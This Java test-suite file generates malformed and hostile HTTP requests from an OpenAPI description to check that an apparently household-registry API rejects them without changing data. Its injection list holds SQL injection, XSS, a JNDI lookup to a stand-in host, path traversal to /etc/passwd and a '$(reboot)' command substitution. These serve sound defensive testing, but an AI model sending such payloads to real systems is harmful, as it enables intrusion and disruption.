package org.fupin.e2e;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.TreeMap;
import java.util.UUID;
import java.util.function.Consumer;

import jakarta.json.JsonArray;
import jakarta.json.JsonNumber;
import jakarta.json.JsonObject;
import jakarta.json.JsonString;
import jakarta.json.JsonValue;

import org.fupin.e2e.JsonText.Raw;
import org.fupin.e2e.OpenApiDocument.Body;
import org.fupin.e2e.OpenApiDocument.Operation;
import org.fupin.e2e.OpenApiDocument.Parameter;

/**
 * Invalid requests for one operation, generated from its OpenAPI description: wrong JSON types,
 * missing and null required fields, huge strings, broken Unicode, injection strings, broken bodies
 * and media types, bad query values, bad path ids and bad headers.
 * <p>
 * Every request that could change data is invalid for certain, so that a registry that is the same
 * afterwards proves that rejected requests change nothing. A request is certainly invalid when its
 * body lacks (or nulls) a required field, when its body is no JSON object at all or of the wrong
 * media type, when it holds U+0000 in text, or when it targets an id that does not exist. Mutations
 * that might be valid on their own (an injection string in a free-text field) are therefore always
 * sent together with one of these.
 */
final class BadRequests {

    private static final int HUGE = 100_000;
    private static final ZoneId COUNTY_ZONE = ZoneId.of("Asia/Shanghai");

    /** Strings that break naive SQL, LIKE patterns, HTML, log lookups, templates and paths. */
    private static final List<String> INJECTIONS = List.of(
            "' or 1=1 --", "%", "_", "\\", "%_\\%", "<script>alert(1)</script>", "${jndi:ldap://x.example/a}",
            "../../etc/passwd", "\"; drop table household; --", "{{7*7}}#{7*7}", "$(reboot)");

    /**
     * Text with U+0000, which ends a C string and which PostgreSQL cannot store or compare: no field
     * or parameter of the API can take it, so such a request is invalid whatever else it holds.
     */
    private static final List<String> NUL_TEXTS = List.of("\u0000", "a\u0000b");

    /** Percent-encoded bytes that are no UTF-8: invalid, a lone surrogate, an overlong /, a cut sequence. */
    private static final List<String> BROKEN_ENCODINGS = List.of("%FF%FE", "%ED%A0%80", "%C0%AF", "%E6%A1");

    /** Where the request goes when nothing of it is fuzzed: existing records where the test made some. */
    interface Targets {

        /** The id of a record of the collection named by the path segment before the parameter, if the test made one. */
        Optional<String> existing(String collection);

        /** The current ETag of the resource at the path (or of the nearest resource above it that has one). */
        Optional<String> etag(String path);
    }

    /** One request; the body is null when none is sent. */
    record BadRequest(String operation, String category, String description, String method, String target,
            Map<String, String> headers, byte[] body) {

        @Override
        public String toString() {
            String shown = target.length() <= 160 ? target : target.substring(0, 160) + "…(" + target.length() + " chars)";
            return method + " " + shown + " [" + category + ": " + description + "]";
        }
    }

    /** A value for a query or path parameter, percent-encoded for the URL, with the kind of fault it is. */
    private record Value(String kind, String encoded, String label) {

        static Value of(String kind, String plain) {
            return new Value(kind, URLEncoder.encode(plain, StandardCharsets.UTF_8).replace("+", "%20"), JsonText.excerpt(plain, 40));
        }

        static Value raw(String kind, String encoded) {
            return new Value(kind, encoded, encoded);
        }
    }

    /** A field of the body, as the path of keys and indexes that leads to it, with its schema. */
    private record Field(List<Object> path, JsonObject schema) {

        String name() {
            StringBuilder name = new StringBuilder();
            for (Object step : path) {
                if (step instanceof Integer index) {
                    name.append('[').append(index).append(']');
                } else {
                    name.append(name.isEmpty() ? "" : ".").append(step);
                }
            }
            return name.toString();
        }

        boolean overlaps(Field other) {
            int common = Math.min(path.size(), other.path.size());
            return path.subList(0, common).equals(other.path.subList(0, common));
        }
    }

    /** One request being put together; what it breaks for certain decides whether it may be sent. */
    private final class Draft {

        final String category;
        final String description;
        final Map<String, String> pathValues = new LinkedHashMap<>(defaultPath);
        final List<String> query = new ArrayList<>();
        final Map<String, String> headers = new TreeMap<>(String.CASE_INSENSITIVE_ORDER);
        byte[] body;
        boolean certainlyInvalid;

        Draft(String category, String description) {
            this.category = category;
            this.description = description;
            if (defaultIfMatch != null) {
                headers.put("If-Match", defaultIfMatch);
            }
            operation.body().ifPresent(declared -> headers.put("Content-Type", contentTypeOf(declared)));
        }

        Draft body(byte[] bytes, boolean certain) {
            this.body = bytes;
            this.certainlyInvalid |= certain;
            return this;
        }

        /** The usual body of the operation, with a required field broken when the schema has one. */
        Draft baseBody() {
            if (operation.body().isEmpty()) {
                return this;
            }
            if (!isJsonBody()) {
                return body(NOT_CSV, true);
            }
            Object base = isMergePatch() ? new LinkedHashMap<String, Object>() : deepCopy(sample);
            return anchoredBody(base, null);
        }

        /** The body with a required field other than the mutated one missing or null. */
        Draft anchoredBody(Object body, Field mutated) {
            List<Field> anchors = requiredFields.stream().filter(f -> mutated == null || !f.overlaps(mutated)).toList();
            if (anchors.isEmpty()) {
                return body(JsonText.write(body), false);
            }
            int turn = anchorTurn++;
            Field anchor = anchors.get(turn % anchors.size());
            // Alternately null and absent; a merge patch leaves an absent field as it is, so there only null breaks it.
            if (isMergePatch() || turn % 2 == 0) {
                set(body, anchor.path(), null);
            } else {
                remove(body, anchor.path());
            }
            return body(JsonText.write(body), true);
        }

        /** The usual body with only this field changed: for values that no field can take. */
        Draft alone(Field field, Object value) {
            Object body = isMergePatch() ? new LinkedHashMap<String, Object>() : deepCopy(sample);
            set(body, field.path(), value);
            return body(JsonText.write(body), true);
        }

        Draft mutate(Field field, Object value) {
            Object body = isMergePatch() ? new LinkedHashMap<String, Object>() : deepCopy(sample);
            set(body, field.path(), value);
            return anchoredBody(body, field);
        }

        Optional<BadRequest> build() {
            if (!operation.isSafe() && !certainlyInvalid) {
                // Nothing else is broken for sure: send it to a record that does not exist.
                List<Parameter> pathParameters = operation.in("path");
                if (pathParameters.isEmpty()) {
                    return Optional.empty();
                }
                Parameter last = pathParameters.get(pathParameters.size() - 1);
                if (existingIds.contains(pathValues.get(last.name()))) {
                    pathValues.put(last.name(), last.isUuid() && !operation.method().equals("PUT")
                            ? randomUuid() : "not-an-id");
                }
            }
            String target = operation.path();
            for (Map.Entry<String, String> value : pathValues.entrySet()) {
                target = target.replace("{" + value.getKey() + "}", value.getValue());
            }
            if (!query.isEmpty()) {
                target += "?" + String.join("&", query);
            }
            return Optional.of(new BadRequest(operation.key(), category, description, operation.method(), target,
                    Map.copyOf(headers), body));
        }
    }

    private static final String NUL = "NUL character";
    private static final byte[] NOT_CSV = "not,a,header,of,this,import\n1,2,3,4,5,6\n".getBytes(StandardCharsets.UTF_8);

    private final OpenApiDocument document;
    private final Operation operation;
    private final Random random;
    private final Map<String, String> defaultPath = new LinkedHashMap<>();
    private final List<String> existingIds = new ArrayList<>();
    private final String defaultIfMatch;
    private final Object sample;
    private final List<Field> fields = new ArrayList<>();
    private final List<Field> requiredFields = new ArrayList<>();
    private int anchorTurn;

    BadRequests(OpenApiDocument document, Operation operation, Targets targets, long seed) {
        this.document = document;
        this.operation = operation;
        this.random = new Random(seed ^ operation.key().hashCode());
        boolean allExist = true;
        for (Parameter parameter : operation.in("path")) {
            Optional<String> existing = targets.existing(operation.segmentBefore(parameter.name()));
            existing.ifPresent(existingIds::add);
            allExist &= existing.isPresent();
            defaultPath.put(parameter.name(), existing.orElseGet(this::randomUuid));
        }
        String concrete = operation.path();
        for (Map.Entry<String, String> value : defaultPath.entrySet()) {
            concrete = concrete.replace("{" + value.getKey() + "}", value.getValue());
        }
        boolean takesIfMatch = operation.in("header").stream().anyMatch(p -> p.name().equalsIgnoreCase("If-Match"));
        this.defaultIfMatch = takesIfMatch && allExist ? targets.etag(concrete).orElse(null) : null;
        JsonObject schema = operation.body().map(Body::schema).orElse(JsonValue.EMPTY_JSON_OBJECT);
        this.sample = operation.body().isPresent() && isJsonBody() ? sample(schema, 0) : null;
        if (sample != null) {
            collectFields(schema, new ArrayList<>(), isMergePatch() ? 1 : 3);
        }
    }

    /**
     * Up to {@code cap} requests, taken in turn from each kind of fault (so that every kind is tried
     * when the cap is lower than the number of candidates), in an order fixed by the seed.
     */
    List<BadRequest> generate(int cap) {
        Map<String, List<BadRequest>> byCategory = new LinkedHashMap<>();
        Consumer<Draft> add = draft -> draft.build()
                .ifPresent(request -> byCategory.computeIfAbsent(request.category(), c -> new ArrayList<>()).add(request));
        if (sample != null) {
            bodyFieldFaults(add);
            bodyFaults(add);
        } else if (operation.body().isPresent()) {
            otherBodyFaults(add);
        }
        if (operation.body().isPresent()) {
            mediaTypeFaults(add);
        }
        for (Parameter parameter : operation.in("query")) {
            for (Value value : queryValues(parameter)) {
                Draft draft = new Draft("query: " + value.kind(), parameter.name() + "=" + value.label()).baseBody();
                draft.query.add(parameter.name() + "=" + value.encoded());
                draft.certainlyInvalid |= value.kind().equals(NUL);
                add.accept(draft);
            }
        }
        for (Parameter parameter : operation.in("path")) {
            for (Value value : pathValues(parameter)) {
                Draft draft = new Draft("path: " + value.kind(), "{" + parameter.name() + "}=" + value.label()).baseBody();
                draft.pathValues.put(parameter.name(), value.encoded());
                // None of them is the id of a record: the request goes nowhere it could change anything.
                draft.certainlyInvalid = true;
                add.accept(draft);
            }
        }
        for (Parameter parameter : operation.in("header")) {
            for (String value : headerValues()) {
                Draft draft = new Draft("header", parameter.name() + ": " + JsonText.excerpt(value, 40)).baseBody();
                draft.headers.put(parameter.name(), value);
                add.accept(draft);
            }
        }
        for (String accept : List.of("application/xml", "image/png", "text/csv;q=0.1, application/x-nothing")) {
            Draft draft = new Draft("accept", "Accept: " + accept).baseBody();
            draft.headers.put("Accept", accept);
            add.accept(draft);
        }
        return roundRobin(byCategory, cap);
    }

    private List<BadRequest> roundRobin(Map<String, List<BadRequest>> byCategory, int cap) {
        List<List<BadRequest>> queues = new ArrayList<>();
        for (List<BadRequest> requests : byCategory.values()) {
            List<BadRequest> shuffled = new ArrayList<>(requests);
            Collections.shuffle(shuffled, random);
            queues.add(shuffled);
        }
        List<BadRequest> chosen = new ArrayList<>();
        for (int round = 0; chosen.size() < cap; round++) {
            boolean any = false;
            for (List<BadRequest> queue : queues) {
                if (round < queue.size() && chosen.size() < cap) {
                    chosen.add(queue.get(round));
                    any = true;
                }
            }
            if (!any) {
                break;
            }
        }
        return chosen;
    }

    private void bodyFieldFaults(Consumer<Draft> add) {
        for (Field field : fields) {
            String name = field.name();
            for (Object wrong : wrongTypes(field.schema())) {
                add.accept(new Draft("wrong type", name + " = " + JsonText.excerpt(wrong, 30)).mutate(field, wrong));
            }
            if (requiredFields.contains(field)) {
                add.accept(new Draft("null required", name + " = null").mutate(field, null));
                if (!isMergePatch()) {
                    Object body = deepCopy(sample);
                    remove(body, field.path());
                    add.accept(new Draft("missing required", "no " + name).anchoredBody(body, field));
                }
            }
            for (Object value : outOfRange(field.schema())) {
                add.accept(new Draft("out of range", name + " = " + JsonText.excerpt(value, 30)).mutate(field, value));
            }
            if (isString(field.schema())) {
                String huge = random.nextBoolean() ? "x".repeat(HUGE) : "桂".repeat(HUGE);
                add.accept(new Draft("huge string", name + " = " + HUGE + " × " + huge.charAt(0)).mutate(field, huge));
                for (Object broken : brokenUnicode()) {
                    add.accept(new Draft("broken unicode", name + " = " + broken).mutate(field, broken));
                }
                for (String injection : INJECTIONS) {
                    add.accept(new Draft("injection", name + " = " + JsonText.excerpt(injection, 30)).mutate(field, injection));
                }
                for (String nul : NUL_TEXTS) {
                    Draft draft = new Draft(NUL, name + " = " + JsonText.excerpt(nul, 30));
                    // A UUID or a date is read from the text stripped of control characters: "\u0000" reads as
                    // absent, which may be valid. Only text that is kept as text is invalid with it alone.
                    add.accept(OpenApiDocument.text(field.schema(), "format") == null ? draft.alone(field, nul) : draft.mutate(field, nul));
                }
            }
        }
    }

    /** Bodies broken as a whole: absent, empty, not JSON, not an object, nested too deep. */
    private void bodyFaults(Consumer<Draft> add) {
        // An empty merge patch is a valid one that changes nothing.
        boolean requiresFields = !requiredFields.isEmpty() && !isMergePatch();
        add.accept(new Draft("broken body", "no body at all").body(new byte[0], requiresFields));
        add.accept(new Draft("broken body", "{}").body(bytes("{}"), requiresFields));
        add.accept(new Draft("broken body", "null").body(bytes("null"), requiresFields));
        String inAnArray = new String(JsonText.write(List.of(sample)), StandardCharsets.UTF_8);
        for (String notAnObject : List.of("[]", "\"text\"", "42", "true", inAnArray)) {
            add.accept(new Draft("broken body", "a body that is " + JsonText.excerpt(notAnObject, 30))
                    .body(bytes(notAnObject), true));
        }
        for (String malformed : List.of("{\"villageCode\": [}", "not json at all", "<?xml version=\"1.0\"?><household/>",
                "{'single': 'quotes'}", "{\"a\":1,}", "\u0000")) {
            add.accept(new Draft("broken body", "malformed " + JsonText.excerpt(malformed, 30)).body(bytes(malformed), true));
        }
        Draft usual = new Draft("", "").baseBody();
        byte[] base = usual.body;
        add.accept(new Draft("broken body", "cut in half").body(Arrays.copyOf(base, base.length / 2), true));
        add.accept(new Draft("broken body", "trailing garbage").body(concat(base, bytes("}}garbage")), true));
        add.accept(new Draft("broken body", "nested 10,000 arrays deep")
                .body(bytes("[".repeat(10_000) + "]".repeat(10_000)), true));
        add.accept(new Draft("broken body", "nested 5,000 objects deep")
                .body(bytes("{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000)), true));
        add.accept(new Draft("broken body", "a number of 5,000 digits as the body").body(bytes("9".repeat(5_000)), true));
        add.accept(new Draft("broken body", "invalid UTF-8 outside strings").body(concat(bytes("{"), new byte[] { (byte) 0xFF,
                (byte) 0xFE }, bytes("}")), true));
        // The usual body in shapes a lenient parser reads: as invalid as the usual body, no more.
        add.accept(new Draft("broken body", "byte order mark first").body(concat(new byte[] { (byte) 0xEF, (byte) 0xBB,
                (byte) 0xBF }, base), usual.certainlyInvalid));
        add.accept(new Draft("broken body", "UTF-16 encoded")
                .body(new String(base, StandardCharsets.UTF_8).getBytes(StandardCharsets.UTF_16), usual.certainlyInvalid));
    }

    /** A body that is not JSON (a CSV upload): garbage in every shape; none of it has a header row the service could expect. */
    private void otherBodyFaults(Consumer<Draft> add) {
        add.accept(new Draft("broken body", "no body at all").body(new byte[0], true));
        add.accept(new Draft("broken body", "one line of " + HUGE + " characters").body(bytes("x".repeat(HUGE) + "\n"), true));
        add.accept(new Draft("broken body", "binary garbage").body(randomBytes(4096), true));
        add.accept(new Draft("broken body", "JSON instead").body(bytes("{\"householdRef\": 1}"), true));
        add.accept(new Draft("broken body", "only line breaks").body(bytes("\n\n\r\n\n"), true));
        add.accept(new Draft("broken body", "unclosed quote").body(bytes("\"householdRef,villageCode\n"), true));
        for (Object broken : brokenUnicode()) {
            if (broken instanceof Raw raw) {
                add.accept(new Draft("broken unicode", "a header of " + raw.label()).body(concat(raw.bytes(), bytes(",x\n")), true));
            }
        }
        for (String injection : concat(INJECTIONS, NUL_TEXTS)) {
            add.accept(new Draft("injection", "a header of " + JsonText.excerpt(injection, 30))
                    .body(bytes(injection + "," + injection + "\n" + injection + "\n"), true));
        }
    }

    private void mediaTypeFaults(Consumer<Draft> add) {
        Body declared = operation.body().orElseThrow();
        List<String> wrong = new ArrayList<>(List.of("text/plain; charset=UTF-8", "application/xml",
                "multipart/form-data; boundary=x", "application/x-www-form-urlencoded"));
        wrong.add(declared.isMergePatch() ? "application/json" : declared.isJson() ? "application/merge-patch+json" : "application/json");
        for (String mediaType : wrong) {
            Draft draft = new Draft("media type", "Content-Type: " + mediaType).baseBody();
            draft.headers.put("Content-Type", mediaType);
            draft.certainlyInvalid = true;
            add.accept(draft);
        }
        Draft none = new Draft("media type", "no Content-Type").baseBody();
        none.headers.remove("Content-Type");
        none.certainlyInvalid = true;
        add.accept(none);
    }

    private List<Value> queryValues(Parameter parameter) {
        List<Value> values = new ArrayList<>();
        for (String plain : List.of("abc", "-1", "0", "100000", "1.5", "99999999999999999999", "", " ", "0x10", "1e3",
                "NO_SUCH_VALUE", "true", "2019-02-30", "2019-13-01", "yesterday", "2019-06-25T25:61:00Z", "not-a-uuid")) {
            values.add(Value.of("wrong value", plain));
        }
        INJECTIONS.forEach(injection -> values.add(Value.of("injection", injection)));
        NUL_TEXTS.forEach(nul -> values.add(Value.of(NUL, nul)));
        values.add(Value.raw(NUL, "%00"));
        BROKEN_ENCODINGS.forEach(encoded -> values.add(Value.raw("broken encoding", encoded)));
        values.add(Value.of("long", "x".repeat(3_000)));
        values.add(Value.of("long", "云阳".repeat(500)));
        if (parameter.name().toLowerCase().contains("cursor")) {
            // Well-formed base64url around keys this list never issued.
            for (String key : List.of("k:", "k:x", "k:' or 1=1 --", "k:\u0000", "k:99999999999999999999999",
                    "k:-1", "k:" + "9".repeat(2_000), "k:2019-06-25|not-a-uuid", "nope")) {
                values.add(new Value("forged cursor", Base64.getUrlEncoder().withoutPadding()
                        .encodeToString(key.getBytes(StandardCharsets.UTF_8)), "cursor of " + JsonText.excerpt(key, 30)));
            }
            values.add(Value.of("long", "c".repeat(HUGE)));
        }
        return values;
    }

    private List<Value> pathValues(Parameter parameter) {
        List<Value> values = new ArrayList<>();
        values.add(Value.of("unknown id", randomUuid()));
        for (String plain : List.of("not-a-uuid", "0", "-1", "9".repeat(300), "x".repeat(2_000), "00000000-0000-0000-0000-00000000000g",
                "{" + parameter.name() + "}", " ", "云阳")) {
            values.add(Value.of("malformed id", plain));
        }
        INJECTIONS.forEach(injection -> values.add(Value.of("injection", injection)));
        NUL_TEXTS.forEach(nul -> values.add(Value.of(NUL, nul)));
        values.add(Value.raw(NUL, "%00"));
        BROKEN_ENCODINGS.forEach(encoded -> values.add(Value.raw("broken encoding", encoded)));
        for (String traversal : List.of("..%2F..%2Fetc%2Fpasswd", "%2e%2e", "a%2Fb", "%3B", "..;")) {
            values.add(Value.raw("traversal", traversal));
        }
        return values;
    }

    private static List<String> headerValues() {
        List<String> values = new ArrayList<>(List.of("garbage", "\"999999\"", "W/\"0\"", "\"\"", "*, \"1\"", "-1",
                "x".repeat(2_000), "not-a-uuid"));
        // Header values are printable ASCII on the wire; the others cannot be sent.
        INJECTIONS.stream().filter(value -> value.chars().allMatch(c -> c >= 0x20 && c < 0x7F)).forEach(values::add);
        return values;
    }

    /** Values of a type the field cannot take: none of them can be read as the declared type. */
    private List<Object> wrongTypes(JsonObject schema) {
        Map<String, Object> object = new LinkedHashMap<>(Map.of("x", 1));
        String type = typeOf(schema);
        return switch (type) {
            case "integer" -> List.<Object>of("abc", object, List.of(1), true, 1.5);
            case "number" -> List.<Object>of("abc", object, List.of(1), true);
            case "boolean" -> List.<Object>of("maybe", 2, object, List.of(true));
            case "array" -> List.<Object>of(object, "x", 7);
            case "object" -> List.<Object>of(List.of(), "x", 7, true);
            default -> List.<Object>of(object, List.of(1, "x"), 12345, true);
        };
    }

    /** Values of the right type that the declared constraints (or plain sense) refuse. */
    private List<Object> outOfRange(JsonObject schema) {
        List<Object> values = new ArrayList<>();
        switch (typeOf(schema)) {
            case "integer", "number" -> {
                values.add(-1);
                values.add(new BigDecimal("-0.001"));
                values.add(new BigDecimal("0.001"));
                values.add(new BigInteger("1" + "0".repeat(30)));
                values.add(2_147_483_648L);
                values.add(new BigInteger("9".repeat(5_000)));
                values.add(new BigDecimal("1E+400"));
                if (schema.get("maximum") instanceof JsonNumber maximum) {
                    values.add(maximum.bigDecimalValue().add(BigDecimal.ONE));
                }
            }
            case "array" -> {
                values.add(new ArrayList<>());
                JsonObject items = document.resolve(schema.get("items"));
                int count = schema.get("maxItems") instanceof JsonNumber max ? Math.min(max.intValue() + 1, 2_000) : 2_000;
                values.add(Collections.nCopies(count, sample(items, 2)));
            }
            case "string" -> {
                if (schema.get("maxLength") instanceof JsonNumber max && max.intValue() < HUGE) {
                    values.add("x".repeat(max.intValue() + 1));
                }
                values.add("");
                values.add("   ");
                if (schema.containsKey("enum")) {
                    values.add("NO_SUCH_VALUE");
                    String first = ((JsonArray) schema.get("enum")).getString(0);
                    values.add(first.toLowerCase());
                }
                String format = OpenApiDocument.text(schema, "format");
                if ("date".equals(format)) {
                    values.addAll(List.of("2019-02-30", "2019-13-01", "25.06.2019", "+999999999-12-31", "-0001-01-01"));
                } else if ("date-time".equals(format)) {
                    values.addAll(List.of("2019-06-25", "2019-06-25T25:61:00Z", "2019-06-25T10:00:00", "+999999999-12-31T00:00:00Z"));
                } else if ("uuid".equals(format)) {
                    values.addAll(List.of("not-a-uuid", "00000000-0000-0000-0000-00000000000g", randomUuid() + "0"));
                }
            }
            default -> {
            }
        }
        return values;
    }

    private static List<Object> brokenUnicode() {
        return List.<Object>of(
                quoted("invalid UTF-8 C3 28", 0xC3, 0x28),
                quoted("a lone surrogate as UTF-8 bytes ED A0 80", 0xED, 0xA0, 0x80),
                quoted("bytes FF FE", 0xFF, 0xFE),
                quoted("an overlong / C0 AF", 0xC0, 0xAF),
                quoted("beyond U+10FFFF F4 90 80 80", 0xF4, 0x90, 0x80, 0x80),
                quoted("a lone continuation byte 80", 0x80),
                quoted("a cut sequence E6 A1", 0xE6, 0xA1),
                "\ud800",
                "x\udc00y\ud83d",
                "\ufeff\ufffe\uffff");
    }

    private static Raw quoted(String label, int... bytes) {
        int[] withQuotes = new int[bytes.length + 2];
        withQuotes[0] = '"';
        System.arraycopy(bytes, 0, withQuotes, 1, bytes.length);
        withQuotes[withQuotes.length - 1] = '"';
        return Raw.of(label, withQuotes);
    }

    /** A plausible value for the schema: example, first enum value, or something of the declared type and format. */
    private Object sample(JsonObject schema, int depth) {
        JsonValue example = schema.containsKey("examples") && !schema.getJsonArray("examples").isEmpty()
                ? schema.getJsonArray("examples").get(0) : schema.get("example");
        if (example != null) {
            return plain(example);
        }
        if (schema.containsKey("enum")) {
            return plain(schema.getJsonArray("enum").get(0));
        }
        switch (typeOf(schema)) {
            case "object" -> {
                Map<String, Object> object = new LinkedHashMap<>();
                if (depth < 4 && schema.containsKey("properties")) {
                    JsonObject properties = schema.getJsonObject("properties");
                    for (String name : properties.keySet()) {
                        object.put(name, sample(document.resolve(properties.get(name)), depth + 1));
                    }
                }
                return object;
            }
            case "array" -> {
                List<Object> list = new ArrayList<>();
                list.add(sample(document.resolve(schema.get("items")), depth + 1));
                return list;
            }
            case "integer" -> {
                return schema.get("minimum") instanceof JsonNumber minimum ? minimum.intValue() : 1;
            }
            case "number" -> {
                return schema.get("minimum") instanceof JsonNumber minimum ? minimum.bigDecimalValue() : BigDecimal.ONE;
            }
            case "boolean" -> {
                return false;
            }
            default -> {
                String format = OpenApiDocument.text(schema, "format");
                if ("date".equals(format)) {
                    return LocalDate.now(COUNTY_ZONE).minusDays(1).toString();
                }
                if ("date-time".equals(format)) {
                    return Instant.now().minus(1, ChronoUnit.HOURS).truncatedTo(ChronoUnit.SECONDS).toString();
                }
                if ("uuid".equals(format)) {
                    return randomUuid();
                }
                return "样本";
            }
        }
    }

    /** The fields of the body down to {@code depth} levels (array items by their first element), required ones noted. */
    private void collectFields(JsonObject schema, List<Object> at, int depth) {
        if (depth == 0) {
            return;
        }
        if ("array".equals(typeOf(schema))) {
            List<Object> first = new ArrayList<>(at);
            first.add(0);
            collectFields(document.resolve(schema.get("items")), first, depth);
            return;
        }
        if (!schema.containsKey("properties")) {
            return;
        }
        List<String> required = schema.containsKey("required")
                ? schema.getJsonArray("required").getValuesAs(JsonString.class).stream().map(JsonString::getString).toList()
                : List.of();
        JsonObject properties = schema.getJsonObject("properties");
        for (String name : properties.keySet()) {
            List<Object> path = new ArrayList<>(at);
            path.add(name);
            JsonObject property = document.resolve(properties.get(name));
            Field field = new Field(List.copyOf(path), property);
            fields.add(field);
            if (required.contains(name)) {
                requiredFields.add(field);
            }
            collectFields(property, path, depth - 1);
        }
    }

    private static String typeOf(JsonObject schema) {
        String type = OpenApiDocument.text(schema, "type");
        if (type != null) {
            return type;
        }
        return schema.containsKey("properties") ? "object" : schema.containsKey("items") ? "array" : "string";
    }

    private static boolean isString(JsonObject schema) {
        return typeOf(schema).equals("string");
    }

    private boolean isJsonBody() {
        return operation.body().map(Body::isJson).orElse(false);
    }

    private boolean isMergePatch() {
        return operation.body().map(Body::isMergePatch).orElse(false);
    }

    private static String contentTypeOf(Body body) {
        return body.isJson() ? body.mediaType() + "; charset=UTF-8" : body.mediaType().equals("text/csv")
                ? "text/csv; charset=UTF-8" : body.mediaType();
    }

    private String randomUuid() {
        return new UUID(random.nextLong(), random.nextLong()).toString();
    }

    private byte[] randomBytes(int count) {
        byte[] bytes = new byte[count];
        random.nextBytes(bytes);
        return bytes;
    }

    @SuppressWarnings("unchecked")
    private static void set(Object root, List<Object> path, Object value) {
        Object parent = parentOf(root, path);
        Object last = path.get(path.size() - 1);
        if (parent instanceof Map<?, ?> map) {
            ((Map<String, Object>) map).put((String) last, value);
        } else if (parent instanceof List<?> list && (Integer) last < list.size()) {
            ((List<Object>) list).set((Integer) last, value);
        }
    }

    private static void remove(Object root, List<Object> path) {
        Object parent = parentOf(root, path);
        Object last = path.get(path.size() - 1);
        if (parent instanceof Map<?, ?> map) {
            map.remove(last);
        } else if (parent instanceof List<?> list && (Integer) last < list.size()) {
            list.remove((int) (Integer) last);
        }
    }

    @SuppressWarnings("unchecked")
    private static Object parentOf(Object root, List<Object> path) {
        Object current = root;
        for (Object step : path.subList(0, path.size() - 1)) {
            if (current instanceof Map<?, ?> map) {
                Object next = map.get(step);
                if (next == null && !map.containsKey(step)) {
                    // A merge patch starts empty: make the way down to the field.
                    next = new LinkedHashMap<String, Object>();
                    ((Map<String, Object>) map).put((String) step, next);
                }
                current = next;
            } else if (current instanceof List<?> list && step instanceof Integer index && index < list.size()) {
                current = list.get(index);
            } else {
                return null;
            }
        }
        return current;
    }

    private static Object deepCopy(Object value) {
        if (value instanceof Map<?, ?> map) {
            Map<String, Object> copy = new LinkedHashMap<>();
            map.forEach((key, item) -> copy.put((String) key, deepCopy(item)));
            return copy;
        }
        if (value instanceof List<?> list) {
            List<Object> copy = new ArrayList<>();
            list.forEach(item -> copy.add(deepCopy(item)));
            return copy;
        }
        return value;
    }

    /** A JSON value as the plain Java value (String, BigDecimal, Boolean, List, Map) a request body is built of. */
    static Object plain(JsonValue value) {
        return switch (value.getValueType()) {
            case STRING -> ((JsonString) value).getString();
            case NUMBER -> ((JsonNumber) value).bigDecimalValue();
            case TRUE -> true;
            case FALSE -> false;
            case NULL -> null;
            case ARRAY -> ((JsonArray) value).stream().map(BadRequests::plain).toList();
            case OBJECT -> {
                Map<String, Object> map = new LinkedHashMap<>();
                ((JsonObject) value).forEach((key, item) -> map.put(key, plain(item)));
                yield map;
            }
        };
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static List<String> concat(List<String> first, List<String> second) {
        List<String> all = new ArrayList<>(first);
        all.addAll(second);
        return all;
    }

    private static byte[] concat(byte[]... parts) {
        int length = 0;
        for (byte[] part : parts) {
            length += part.length;
        }
        byte[] all = new byte[length];
        int at = 0;
        for (byte[] part : parts) {
            System.arraycopy(part, 0, all, at, part.length);
            at += part.length;
        }
        return all;
    }
}
